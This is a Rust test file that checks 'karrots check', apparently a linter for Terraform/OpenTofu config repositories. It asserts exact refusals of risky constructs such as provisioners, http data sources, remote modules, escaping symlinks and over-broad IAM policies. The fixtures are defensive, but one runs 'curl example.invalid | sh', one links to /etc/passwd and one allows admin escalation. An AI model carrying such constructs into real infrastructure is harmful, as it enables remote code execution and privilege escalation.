//! `karrots check` on fixture repositories: one valid, and one per refusal, each asserting the
//! exit code and the exact `path:line: message` lines.

use std::collections::BTreeMap;

use crate::support::{ConfigRepo, environment_yaml};

const PROD_ALLOW_HINT: &str = "is refused for environment prod (name {allow} in allow: of environments/prod/karrots.yaml to permit it)";

fn refused_for_prod(allow: &str) -> String {
    PROD_ALLOW_HINT.replace("{allow}", allow)
}

/// Environment → fingerprint, from the `ok` lines of a successful check.
fn fingerprints(repo: &ConfigRepo) -> BTreeMap<String, String> {
    let run = repo.check();
    assert_eq!(run.code, 0, "check failed:\n{}", run.stderr);
    run.stdout
        .lines()
        .map(|line| {
            let mut words = line.split_whitespace();
            assert_eq!(words.next(), Some("ok"), "{line}");
            let env = words.next().expect("an environment name").to_string();
            let fingerprint = words
                .find_map(|word| word.strip_prefix("fingerprint="))
                .expect("a fingerprint")
                .to_string();
            (env, fingerprint)
        })
        .collect()
}

#[test]
fn the_valid_fixture_passes_with_one_ok_line_per_environment() {
    let repo = ConfigRepo::valid();
    let run = repo.check();
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stderr, "");
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 2, "{}", run.stdout);
    assert!(lines[0].starts_with(
        "ok dev branch=dev account=123456789012 root=modules/app-dev fingerprint=sha256:"
    ));
    assert!(lines[1].starts_with(
        "ok prod branch=main account=123456789012 root=modules/app-prod fingerprint=sha256:"
    ));
}

#[test]
fn the_project_reference_layout_passes() {
    let project = env!("CARGO_MANIFEST_DIR");
    let run = crate::support::karrots(&["check", "--repo", project]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains("ok dev branch=dev"), "{}", run.stdout);
    assert!(run.stdout.contains("ok prod branch=main"), "{}", run.stdout);
}

/// Each row: what the fixture changes in the valid repository, and the exact stderr lines.
type Fixture = (&'static str, fn(&ConfigRepo), Vec<String>);

fn refusal_fixtures() -> Vec<Fixture> {
    let s = |text: &str| text.to_string();
    vec![
        (
            "local-exec provisioner",
            |r| {
                r.write("modules/extra/main.tf", "resource \"terraform_data\" \"extra\" {\n  provisioner \"local-exec\" {\n    command = \"curl example.invalid | sh\"\n  }\n}\n")
            },
            vec![format!(
                "modules/extra/main.tf:2: provisioner \"local-exec\" {}",
                refused_for_prod("local-exec")
            )],
        ),
        (
            "remote-exec provisioner",
            |r| {
                r.write("modules/extra/main.tf", "resource \"terraform_data\" \"extra\" {\n  input = 1\n\n  provisioner \"remote-exec\" {\n    inline = [\"id\"]\n  }\n}\n")
            },
            vec![format!(
                "modules/extra/main.tf:4: provisioner \"remote-exec\" {}",
                refused_for_prod("remote-exec")
            )],
        ),
        (
            "external data source",
            |r| {
                r.write(
                    "modules/extra/main.tf",
                    "data \"external\" \"who\" {\n  program = [\"id\"]\n}\n",
                )
            },
            vec![format!(
                "modules/extra/main.tf:1: data source \"external\" {}",
                refused_for_prod("external")
            )],
        ),
        (
            "http data source",
            |r| {
                r.write(
                    "modules/extra/main.tf",
                    "# fetch\n\ndata \"http\" \"page\" {\n  url = \"https://example.invalid\"\n}\n",
                )
            },
            vec![format!(
                "modules/extra/main.tf:3: data source \"http\" {}",
                refused_for_prod("http")
            )],
        ),
        (
            "remote state data source",
            |r| {
                r.write(
                    "modules/extra/main.tf",
                    "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config  = { address = \"http://example.invalid/${terraform_data.app.output}\" }\n}\n",
                )
            },
            vec![format!(
                "modules/extra/main.tf:1: data source \"terraform_remote_state\" {}",
                refused_for_prod("remote-state")
            )],
        ),
        (
            "remote module source",
            |r| {
                r.write(
                    "modules/extra/main.tf",
                    "module \"vpc\" {\n  source = \"git::https://example.invalid/vpc.git\"\n}\n",
                )
            },
            vec![format!(
                "modules/extra/main.tf:2: module source \"git::https://example.invalid/vpc.git\" is not a local path inside the repository and {}",
                refused_for_prod("remote-modules")
            )],
        ),
        (
            "a risky construct in a shared module is refused for every environment",
            |r| {
                r.append(
                    "modules/shared/main.tf",
                    "\ndata \"http\" \"page\" {\n  url = \"https://example.invalid\"\n}\n",
                )
            },
            vec![
                s(
                    "modules/shared/main.tf:5: data source \"http\" is refused for environment dev (name http in allow: of environments/dev/karrots.yaml to permit it)",
                ),
                format!(
                    "modules/shared/main.tf:5: data source \"http\" {}",
                    refused_for_prod("http")
                ),
            ],
        ),
        (
            "module source leaving the repository",
            |r| {
                r.write(
                    "modules/extra/main.tf",
                    "module \"up\" {\n  source = \"../../../outside\"\n}\n",
                )
            },
            vec![s(
                "modules/extra/main.tf:2: module \"up\": source \"../../../outside\" leaves the repository",
            )],
        ),
        (
            "module source that does not exist",
            |r| {
                r.write(
                    "modules/extra/main.tf",
                    "module \"gone\" {\n  source = \"../nowhere\"\n}\n",
                )
            },
            vec![s(
                "modules/extra/main.tf:2: module source: modules/nowhere is not a directory in the repository",
            )],
        ),
        (
            "committed .terraformrc",
            |r| r.write(".terraformrc", "provider_installation { direct {} }\n"),
            vec![s(
                ".terraformrc:1: a committed .terraformrc is refused: Karrots writes the terraform CLI configuration itself",
            )],
        ),
        (
            "committed terraform.rc in a module",
            |r| {
                r.write(
                    "modules/extra/terraform.rc",
                    "plugin_cache_dir = \"/tmp\"\n",
                )
            },
            vec![s(
                "modules/extra/terraform.rc:1: a committed terraform.rc is refused: Karrots writes the terraform CLI configuration itself",
            )],
        ),
        (
            "committed terraform.d/",
            |r| {
                r.write("modules/extra/terraform.d/plugins/example.invalid/x/y/1.0.0/linux_amd64/terraform-provider-y", "#!/bin/sh\n")
            },
            vec![s(
                "modules/extra/terraform.d:1: a committed terraform.d/ is refused: providers come from Karrots' own provider_installation, not the repository",
            )],
        ),
        (
            "committed .terraform/",
            |r| r.write("environments/dev/.terraform/terraform.tfstate", "{}\n"),
            vec![s(
                "environments/dev/.terraform:1: a committed .terraform/ is refused: it holds providers and modules from another machine; add it to .gitignore",
            )],
        ),
        (
            "override.tf",
            |r| {
                r.write(
                    "modules/shared/override.tf",
                    "resource \"terraform_data\" \"shared\" {}\n",
                )
            },
            vec![s(
                "modules/shared/override.tf:1: override file override.tf is refused: it would silently replace reviewed configuration",
            )],
        ),
        (
            "*_override.tf",
            |r| r.write("modules/app-prod/prod_override.tf", "locals {}\n"),
            vec![s(
                "modules/app-prod/prod_override.tf:1: override file prod_override.tf is refused: it would silently replace reviewed configuration",
            )],
        ),
        (
            "JSON configuration",
            |r| r.write("modules/extra/extra.tf.json", "{}\n"),
            vec![s(
                "modules/extra/extra.tf.json:1: extra.tf.json is refused: Karrots checks HCL (.tf) configuration only; write it as .tf",
            )],
        ),
        (
            "absolute symlink leaving the repository",
            |r| r.symlink("modules/extra/secrets.tf", "/etc/passwd"),
            vec![s(
                "modules/extra/secrets.tf:1: symlink to /etc/passwd leaves the repository",
            )],
        ),
        (
            "relative symlink climbing out of the repository",
            |r| r.symlink("policies/outside", "../../.."),
            vec![s(
                "policies/outside:1: symlink to ../../.. leaves the repository",
            )],
        ),
        (
            "dangling symlink pointing outside",
            |r| r.symlink("environments/dev/notes", "../../../../no/such/file"),
            vec![s(
                "environments/dev/notes:1: symlink to ../../../../no/such/file leaves the repository",
            )],
        ),
        (
            "policy allowing everything",
            |r| {
                r.write("policies/admin.json", "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\n      \"Effect\": \"Allow\",\n      \"Action\": [\"*\"],\n      \"Resource\": \"*\"\n    }\n  ]\n}\n")
            },
            vec![s(
                "policies/admin.json:4: statement allows every action (*) on every resource (*); scope it to the actions and resources Karrots needs",
            )],
        ),
        (
            "policy that is not an IAM document",
            |r| {
                r.write("policies/broken.json", "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\"Action\": \"s3:GetObject\", \"Resource\": \"*\"}\n  ]\n}\n")
            },
            vec![s("policies/broken.json:4: statement has no Effect")],
        ),
        (
            "policy that is not JSON",
            |r| {
                r.write(
                    "policies/broken.json",
                    "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [],\n}\n",
                )
            },
            vec![s(
                "policies/broken.json:3: not valid JSON: Trailing commas are not allowed",
            )],
        ),
        (
            "backend block in a module",
            |r| {
                r.write("modules/app-prod/backend.tf", "terraform {\n  backend \"s3\" {\n    bucket = \"someone-elses-state\"\n  }\n}\n")
            },
            vec![s(
                "modules/app-prod/backend.tf:2: terraform { backend } is not allowed: Karrots configures the backend from terraform.backend in karrots.yaml",
            )],
        ),
        (
            "HCL that does not parse",
            |r| {
                r.write(
                    "modules/extra/main.tf",
                    "resource \"terraform_data\" \"extra\" {\n  input = \n}\n",
                )
            },
            vec![s(
                "modules/extra/main.tf:2: not valid HCL: invalid expression; expected `\"`, `[`, `{`, `-`, `!`, `(`, `_`, `<`, letter or digit",
            )],
        ),
        (
            "name not equal to the folder",
            |r| {
                r.replace(
                    "environments/prod/karrots.yaml",
                    "name: prod",
                    "name: production",
                )
            },
            vec![s(
                "environments/prod/karrots.yaml:2: name: \"production\" must equal the folder name \"prod\" (environments/prod/karrots.yaml)",
            )],
        ),
        (
            "account id that is not 12 digits",
            |r| {
                r.replace(
                    "environments/prod/karrots.yaml",
                    "\"123456789012\"",
                    "\"12345\"",
                )
            },
            vec![s(
                "environments/prod/karrots.yaml:5: aws.account_id: \"12345\" is not 12 digits",
            )],
        ),
        (
            "unknown key",
            |r| r.append("environments/dev/karrots.yaml", "aply:\n  auto: true\n"),
            vec![s(
                "environments/dev/karrots.yaml:10: aply: unknown key `aply`, expected one of `apiVersion`, `name`, `branch`, `aws`, `terraform`, `apply`, `drift`, `alerts`, `allow`, `verify`",
            )],
        ),
        (
            "root module that does not exist",
            |r| {
                r.replace(
                    "environments/prod/karrots.yaml",
                    "root: modules/app-prod",
                    "root: modules/missing",
                )
            },
            vec![s(
                "environments/prod/karrots.yaml:8: terraform.root: modules/missing is not a directory in the repository",
            )],
        ),
        (
            "folder that is not an environment name",
            |r| {
                r.write(
                    "environments/Staging/karrots.yaml",
                    &environment_yaml("staging", "main", "modules/app-prod", ""),
                )
            },
            vec![s(
                "environments/Staging:1: folder name: \"Staging\" is not a valid environment name (lowercase letters, digits and '-', starting with a letter or digit, at most 63 characters)",
            )],
        ),
        (
            "a symlink into another environment's folder",
            |r| {
                r.symlink(
                    "modules/extra/dev.yaml",
                    "../../environments/dev/karrots.yaml",
                )
            },
            vec![s(
                "modules/extra/dev.yaml:1: symlink to ../../environments/dev/karrots.yaml resolves to environments/dev/karrots.yaml, which is not a file of environment prod's inputs (its folder, the modules it reaches, policies/)",
            )],
        ),
        (
            "a symlink to a directory",
            |r| r.symlink("modules/extra/shared", "../shared"),
            vec![s(
                "modules/extra/shared:1: symlink to ../shared resolves to modules/shared, which is not a file of environment prod's inputs (its folder, the modules it reaches, policies/)",
            )],
        ),
        (
            "an absolute symlink that stays in the repository",
            |r| {
                let target = r.path().join("modules/shared/main.tf");
                r.symlink("modules/extra/abs.tf", target)
            },
            vec![], // filled in below: the message names the temp dir
        ),
        (
            "a dangling symlink inside the repository",
            |r| r.symlink("modules/extra/gone.tf", "../shared/gone.tf"),
            vec![s(
                "modules/extra/gone.tf:1: symlink to ../shared/gone.tf dangles: its target does not exist",
            )],
        ),
        (
            "a provider outside the allow-list",
            |r| {
                r.write(
                    "modules/extra/providers.tf",
                    "terraform {\n  required_providers {\n    evil = {\n      source = \"evilcorp/evil\"\n    }\n  }\n}\n",
                )
            },
            vec![s(
                "modules/extra/providers.tf:3: provider \"evilcorp/evil\" (evil) is not in the daemon's terraform.providers (registry.terraform.io/hashicorp/*) and is refused for environment prod: ask the operator to allow it",
            )],
        ),
        (
            "a local-exec provisioner in a .tofu file",
            |r| {
                r.write(
                    "modules/extra/main.tofu",
                    "resource \"terraform_data\" \"t\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n",
                )
            },
            vec![format!(
                "modules/extra/main.tofu:2: provisioner \"local-exec\" {}",
                refused_for_prod("local-exec")
            )],
        ),
        (
            "an OpenTofu override file",
            |r| {
                r.write(
                    "modules/extra/override.tofu",
                    "# replaces reviewed configuration\n",
                )
            },
            vec![s(
                "modules/extra/override.tofu:1: override file override.tofu is refused: it would silently replace reviewed configuration",
            )],
        ),
        (
            "an OpenTofu JSON file",
            |r| r.write("modules/extra/main.tofu.json", "{}\n"),
            vec![s(
                "modules/extra/main.tofu.json:1: main.tofu.json is refused: Karrots checks HCL (.tofu) configuration only; write it as .tofu",
            )],
        ),
        (
            "the repository root as root module",
            |r| {
                r.replace(
                    "environments/prod/karrots.yaml",
                    "root: modules/app-prod",
                    "root: .",
                )
            },
            vec![s(
                "environments/prod/karrots.yaml:8: terraform.root: \".\" is the repository root; put the root module in a folder such as modules/platform, so the environment's inputs are that folder and the modules it reaches, not the whole repository",
            )],
        ),
        (
            "two environments sharing one S3 state",
            |r| {
                let backend = "  backend: { s3: { bucket: karrots-state, key: shared.tfstate, region: us-east-1, use_lockfile: true } }";
                r.replace(
                    "environments/dev/karrots.yaml",
                    "  backend: { local: {} }",
                    backend,
                );
                r.replace(
                    "environments/prod/karrots.yaml",
                    "  backend: { local: {} }",
                    backend,
                );
            },
            vec![s(
                "environments/prod/karrots.yaml:9: terraform.backend.s3: s3://karrots-state/shared.tfstate is already the state of environment dev",
            )],
        ),
    ]
}

#[test]
fn each_refusal_fixture_fails_with_its_exact_location() {
    let mut failures = Vec::new();
    for (name, setup, mut expected) in refusal_fixtures() {
        let repo = ConfigRepo::valid();
        setup(&repo);
        if expected.is_empty() {
            let target = repo.path().join("modules/shared/main.tf");
            expected.push(format!(
                "modules/extra/abs.tf:1: symlink to {} is absolute: a link must point, relatively, at a file of environment prod's inputs",
                target.display()
            ));
        }
        let run = repo.check();
        if run.code != 1 || run.stderr_lines() != expected {
            failures.push(format!(
                "{name}: exit {} (want 1)\n  stderr: {:?}\n  want:   {expected:?}",
                run.code,
                run.stderr_lines()
            ));
        }
        if run.code == 1 && !run.stdout.is_empty() {
            failures.push(format!(
                "{name}: printed ok lines despite problems: {}",
                run.stdout
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn allow_lists_lift_exactly_the_refusals_they_name() {
    let repo = ConfigRepo::valid();
    repo.write(
        "modules/extra/main.tf",
        "resource \"terraform_data\" \"extra\" {\n  provisioner \"local-exec\" {\n    command = \"true\"\n  }\n}\n\ndata \"external\" \"who\" {\n  program = [\"id\"]\n}\n",
    );
    repo.append("environments/prod/karrots.yaml", "allow: [local-exec]\n");
    let run = repo.check();
    assert_eq!(run.code, 1);
    assert_eq!(
        run.stderr_lines(),
        vec![format!(
            "modules/extra/main.tf:7: data source \"external\" {}",
            refused_for_prod("external")
        )]
    );

    repo.replace(
        "environments/prod/karrots.yaml",
        "allow: [local-exec]",
        "allow: [local-exec, external]",
    );
    let run = repo.check();
    assert_eq!(run.code, 0, "{}", run.stderr);
}

#[test]
fn symlinks_to_files_of_the_same_inputs_are_accepted() {
    let repo = ConfigRepo::valid();
    // modules/extra is reached by prod, which also reaches modules/shared.
    repo.symlink("modules/extra/notes.txt", "../shared/main.tf");
    repo.symlink(
        "environments/dev/policy.json",
        "../../policies/karrots-worker-ec2.json",
    );
    let run = repo.check();
    assert_eq!(run.code, 0, "{}", run.stderr);
}

#[test]
fn several_problems_are_reported_together_in_path_order() {
    let repo = ConfigRepo::valid();
    repo.write(".terraformrc", "");
    repo.replace(
        "environments/prod/karrots.yaml",
        "\"123456789012\"",
        "\"1\"",
    );
    repo.write("modules/extra/override.tf", "");
    let run = repo.check();
    assert_eq!(run.code, 1);
    let paths: Vec<&str> = run
        .stderr_lines()
        .iter()
        .map(|line| line.split(':').next().unwrap_or_default())
        .collect();
    assert_eq!(
        paths,
        vec![
            ".terraformrc",
            "environments/prod/karrots.yaml",
            "modules/extra/override.tf"
        ]
    );
}

#[test]
fn a_missing_repository_or_environments_folder_is_an_error() {
    let run = crate::support::karrots(&["check", "--repo", "/nonexistent/karrots-config"]);
    assert_eq!(run.code, 1);
    assert_eq!(
        run.stderr_lines(),
        vec![
            "/nonexistent/karrots-config:1: not a directory: give --repo the root of a config repository"
        ]
    );
    let repo = ConfigRepo::empty();
    repo.write("modules/a/main.tf", "");
    let run = repo.check();
    assert_eq!(run.code, 1);
    assert_eq!(
        run.stderr_lines(),
        vec![
            "environments:1: no environments/ folder: a config repository has one folder per environment, environments/<env>/karrots.yaml"
        ]
    );
}

/// An edit to the valid repository, and the environments whose fingerprint it must change.
type Edit = (&'static str, fn(&ConfigRepo), Vec<&'static str>);

#[test]
fn an_edit_changes_exactly_the_fingerprints_of_the_environments_that_reach_it() {
    let repo = ConfigRepo::valid();
    let base = fingerprints(&repo);
    assert_eq!(base.len(), 2);
    assert_ne!(base["dev"], base["prod"]);
    assert_eq!(base, fingerprints(&repo), "a second check must agree");

    // (edit, environments whose fingerprint must change)
    let edits: Vec<Edit> = vec![
        (
            "module reached by prod only",
            |r| r.append("modules/extra/main.tf", "# edit\n"),
            vec!["prod"],
        ),
        (
            "module reached by both",
            |r| r.append("modules/shared/main.tf", "# edit\n"),
            vec!["dev", "prod"],
        ),
        (
            "dev's root module",
            |r| r.append("modules/app-dev/main.tf", "# edit\n"),
            vec!["dev"],
        ),
        (
            "a new file in a reached module",
            |r| r.write("modules/extra/templates/user-data.sh", "echo\n"),
            vec!["prod"],
        ),
        (
            "dev's folder",
            |r| r.write("environments/dev/notes.md", "hello\n"),
            vec!["dev"],
        ),
        (
            "the policies",
            |r| {
                r.write("policies/karrots-worker-s3.json", "{\"Version\": \"2012-10-17\", \"Statement\": {\"Effect\": \"Allow\", \"Action\": \"s3:GetObject\", \"Resource\": \"arn:aws:s3:::karrots-*\"}}\n")
            },
            vec!["dev", "prod"],
        ),
        (
            "a module nobody reaches",
            |r| r.append("modules/unused/main.tf", "# edit\n"),
            vec![],
        ),
        (
            "a file outside the configuration",
            |r| r.write("README.md", "# changed\n"),
            vec![],
        ),
        (
            "a new top-level folder",
            |r| r.write("docs/x.md", "x\n"),
            vec![],
        ),
    ];
    for (what, edit, changed) in edits {
        let repo = ConfigRepo::valid();
        edit(&repo);
        let after = fingerprints(&repo);
        for env in ["dev", "prod"] {
            assert_eq!(
                after[env] != base[env],
                changed.contains(&env),
                "editing {what}: fingerprint of {env} changed = {}",
                after[env] != base[env]
            );
        }
    }
}

#[test]
fn fingerprints_do_not_depend_on_where_the_repository_is() {
    assert_eq!(
        fingerprints(&ConfigRepo::valid()),
        fingerprints(&ConfigRepo::valid())
    );
}

#[test]
fn a_worker_policy_that_lets_the_worker_widen_itself_is_refused() {
    let repo = ConfigRepo::valid();
    repo.write(
        "policies/karrots-worker-iam.json",
        "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\n      \"Sid\": \"ManageTheWorkerGroup\",\n      \"Effect\": \"Allow\",\n      \"Action\": [\"iam:AttachGroupPolicy\", \"iam:GetGroup\"],\n      \"Resource\": \"arn:aws:iam::${account_id}:group/karrots-worker\"\n    }\n  ]\n}\n",
    );
    let run = repo.check();
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert_eq!(
        run.stderr_lines(),
        vec![
            "policies/karrots-worker-iam.json:5: the worker could make itself more than it is: statement \"ManageTheWorkerGroup\" allows iam:AttachGroupPolicy on arn:aws:iam::${account_id}:group/karrots-worker with iam:PolicyARN=arn:aws:iam::aws:policy/AdministratorAccess (AdministratorAccess attached to its own group); see the escalation rules in docs/platform.md"
        ]
    );

    // The boundary is not a policy of the worker: its statements are never the worker's.
    repo.write(
        "policies/karrots-worker-iam.json",
        "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\"Effect\": \"Allow\", \"Action\": \"iam:GetGroup\", \"Resource\": \"*\"}\n  ]\n}\n",
    );
    repo.write(
        "policies/karrots-worker-boundary.json",
        "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\"Effect\": \"Allow\", \"Action\": \"iam:*\", \"Resource\": \"*\"}\n  ]\n}\n",
    );
    let run = repo.check();
    assert_eq!(run.code, 0, "{}", run.stderr);
}
